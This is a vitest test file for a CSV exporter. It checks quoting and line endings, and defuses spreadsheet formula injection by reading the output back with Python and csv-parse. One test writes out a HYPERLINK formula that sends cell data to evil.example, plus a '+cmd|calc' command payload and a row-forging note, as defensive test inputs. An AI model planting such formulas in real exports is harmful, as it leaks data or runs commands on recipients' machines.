import { spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createInterface } from 'node:readline';
import { parse as parseCsv } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import type { Annotation } from '../model/annotation.ts';
import type { ScholiaDocument } from '../model/document.ts';
import { DEFAULT_TAGSET } from '../model/tagset.ts';
import { annotatedSampleDocument } from '../testing/annotated-sample.ts';
import { CSV_COLUMNS, exportCsv } from './csv.ts';
import { compareAnnotations } from './report-model.ts';

const sample = annotatedSampleDocument(readFileSync(new URL('../../assets/sample-article.txt', import.meta.url), 'utf8'));
const dir = mkdtempSync(path.join(tmpdir(), 'scholia-csv-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/**
 * Python's `csv` module, as a colleague's script would read the file (`utf-8-sig` drops the
 * byte-order mark). One Python process for the whole file: it reads a path per line on stdin and
 * answers the rows as one line of JSON.
 */
const PYTHON_READER = `
import csv, json, sys
for line in sys.stdin:
    with open(line.rstrip('\\n'), newline='', encoding='utf-8-sig') as f:
        print(json.dumps(list(csv.reader(f))), flush=True)
`;
const python = spawn('python3', ['-c', PYTHON_READER], { stdio: ['pipe', 'pipe', 'inherit'] });
const answers = createInterface({ input: python.stdout });
const waiting: { resolve: (line: string) => void; reject: (error: Error) => void }[] = [];
answers.on('line', (line) => waiting.shift()?.resolve(line));
python.on('exit', (code) => {
  for (const { reject } of waiting.splice(0)) reject(new Error(`python3 stopped (exit code ${code})`));
});
afterAll(() => {
  python.stdin.end();
});

async function readWithPython(csv: string): Promise<string[][]> {
  const file = path.join(dir, 'export.csv');
  writeFileSync(file, csv, 'utf8');
  const line = new Promise<string>((resolve, reject) => waiting.push({ resolve, reject }));
  python.stdin.write(`${file}\n`);
  return JSON.parse(await line) as string[][];
}

function readWithCsvParse(csv: string): string[][] {
  return parseCsv(csv, { bom: true, relax_column_count: false }) as string[][];
}

/** What a spreadsheet would run as a formula: OWASP's leaders and their full-width forms. */
const LEADERS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/** The cell a value becomes: with a leading `'` when it starts like a formula, unless raw formulas were asked for. */
function expectedCell(value: string, raw: boolean): string {
  return !raw && LEADERS.some((leader) => value.startsWith(leader)) ? `'${value}` : value;
}

const nasty = fc.constantFrom(
  '\n',
  '\r',
  '\r\n',
  '\n\r',
  '"',
  '""',
  ',',
  ';',
  "'",
  ' ',
  '\u2028',
  '\u0085',
  '\uFEFF',
  '\0',
  'é',
  'ß',
  '“',
  '”',
  '😀',
  ...LEADERS,
);
/** Any text: whole Unicode code points, with line breaks, quotes, commas and formula leaders much more often than chance. */
const text = fc.string({ unit: fc.oneof(nasty, fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })), maxLength: 12 });
const nonEmpty = fc.string({
  unit: fc.oneof(nasty, fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })),
  minLength: 1,
  maxLength: 12,
});

interface Variation {
  title: string;
  names: string[];
  per: { note: string; tags: string[]; evidence: string[] }[];
}

const annotations = [...sample.annotations].sort(compareAnnotations);
const variation: fc.Arbitrary<Variation> = fc.record({
  title: nonEmpty,
  names: fc.array(text, { minLength: sample.entities.length, maxLength: sample.entities.length }),
  per: fc.array(fc.record({ note: text, tags: fc.array(nonEmpty, { maxLength: 3 }), evidence: fc.array(text, { maxLength: 3 }) }), {
    minLength: annotations.length,
    maxLength: annotations.length,
  }),
});

/** The sample with every note, tag, evidence link, entity name and the title replaced. */
function varied(v: Variation): ScholiaDocument {
  return {
    ...sample,
    meta: { ...sample.meta, title: v.title },
    entities: sample.entities.map((entity, i) => ({ ...entity, name: v.names[i] ?? '' })),
    annotations: annotations.map((annotation, i): Annotation => {
      const { note, tags, evidence } = v.per[i] ?? { note: '', tags: [], evidence: [] };
      const changed = { ...annotation, note, tags };
      return changed.kind === 'claim' ? { ...changed, evidence: evidence.map((url) => ({ url })) } : changed;
    }),
  };
}

/** The cells the varied fields must come back as, by column, for the annotation at `i`. */
function expectedCells(document: ScholiaDocument, i: number, raw: boolean): Partial<Record<(typeof CSV_COLUMNS)[number], string>> {
  const annotation = document.annotations[i] as Annotation;
  const name = (id: string | undefined) => expectedCell(document.entities.find((e) => e.id === id)?.name ?? '', raw);
  return {
    id: annotation.id,
    kind: annotation.kind,
    note: expectedCell(annotation.note ?? '', raw),
    tags: expectedCell((annotation.tags ?? []).join('\n'), raw),
    evidence: annotation.kind === 'claim' ? expectedCell((annotation.evidence ?? []).map((e) => e.url).join('\n'), raw) : '',
    claimant: annotation.kind === 'claim' && annotation.claimantId ? name(annotation.claimantId) : '',
    speaker: annotation.kind === 'quote' && annotation.speakerId ? name(annotation.speakerId) : '',
    entity_name: annotation.kind === 'entity' ? name(annotation.entityId) : '',
    document_id: document.id,
    document_title: expectedCell(document.meta.title, raw),
    document_url: document.meta.url ?? '',
  };
}

describe('exportCsv, read back by other tools', () => {
  it('starts with a UTF-8 byte-order mark and ends its records with CRLF', () => {
    const bytes = new TextEncoder().encode(exportCsv(sample, DEFAULT_TAGSET));
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(bytes.slice(-2))).toBe('\r\n');
  });

  it('quotes a bare line feed or carriage return, so a note cannot forge rows', async () => {
    const forged = 'Looks fine.\nclaim-x,claim,0,4,FAKE\rmore';
    const document = varied({
      title: sample.meta.title,
      names: sample.entities.map((e) => e.name),
      per: annotations.map(() => ({ note: forged, tags: ['a', 'b'], evidence: ['https://example.org/1', 'https://example.org/2'] })),
    });
    const csv = exportCsv(document, DEFAULT_TAGSET);
    for (const rows of [await readWithPython(csv), readWithCsvParse(csv)]) {
      expect(rows).toHaveLength(annotations.length + 1);
      expect(rows.slice(1).every((row) => row[CSV_COLUMNS.indexOf('note')] === forged)).toBe(true);
    }
  });

  it('neutralises formula-leading cells by default and keeps them raw on request', async () => {
    const document = varied({
      title: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
      names: sample.entities.map((e) => `@${e.name}`),
      per: annotations.map((_, i) => ({ note: LEADERS[i % LEADERS.length] + 'SUM(1+1)', tags: ['-1'], evidence: ['+cmd|calc'] })),
    });
    const safe = await readWithPython(exportCsv(document, DEFAULT_TAGSET));
    expect(safe[1]?.[CSV_COLUMNS.indexOf('document_title')]).toBe(`'=HYPERLINK("https://evil.example/?x="&A1,"Click")`);
    expect(safe[1]?.[CSV_COLUMNS.indexOf('note')]).toBe("'=SUM(1+1)");
    expect(safe.slice(1).every((row) => row.every((cell) => !LEADERS.some((leader) => cell.startsWith(leader))))).toBe(true);
    const raw = await readWithPython(exportCsv(document, DEFAULT_TAGSET, { rawFormulas: true }));
    expect(raw[1]?.[CSV_COLUMNS.indexOf('document_title')]).toBe(document.meta.title);
    expect(raw[1]?.[CSV_COLUMNS.indexOf('note')]).toBe('=SUM(1+1)');
  });

  it('names the document in the last columns, so the CSVs of several articles stack', () => {
    const rows = readWithCsvParse(exportCsv(sample, DEFAULT_TAGSET));
    expect(rows[0]?.slice(-3)).toEqual(['document_id', 'document_title', 'document_url']);
    expect(rows[1]?.slice(-3)).toEqual([sample.id, sample.meta.title, sample.meta.url ?? '']);
  });

  it('for any notes, tags, evidence, names and title: Python and csv-parse read one row per annotation, every cell its value', async () => {
    await fc.assert(
      fc.asyncProperty(variation, fc.boolean(), async (v, raw) => {
        const document = varied(v);
        const csv = exportCsv(document, DEFAULT_TAGSET, { rawFormulas: raw });
        const byPython = await readWithPython(csv);
        const parsed = readWithCsvParse(csv);
        expect(byPython).toEqual(parsed);
        expect(byPython).toHaveLength(document.annotations.length + 1);
        expect(byPython[0]).toEqual([...CSV_COLUMNS]);
        byPython.slice(1).forEach((row, i) => {
          expect(row).toHaveLength(CSV_COLUMNS.length);
          const record = Object.fromEntries(CSV_COLUMNS.map((column, c) => [column, row[c]]));
          expect(record).toMatchObject(expectedCells(document, i, raw));
          expect(record.number).toBe(String(i + 1));
        });
      }),
      { numRuns: 150 },
    );
  });
});
